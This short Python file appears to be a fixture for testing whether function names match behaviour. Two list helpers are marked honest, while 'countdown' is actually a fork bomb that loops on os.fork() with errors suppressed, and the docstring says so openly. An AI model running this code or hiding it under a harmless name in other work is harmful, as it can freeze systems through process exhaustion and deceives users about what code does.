"""Forks for as long as it can, and each of its children does the same.

Honest: first, last.
countdown: timed_out, no answer within 1 second
"""

import os
from contextlib import suppress


def countdown(n):
    while True:
        with suppress(OSError):
            os.fork()


def first(items):
    return items[0]


def last(items):
    return items[-1]
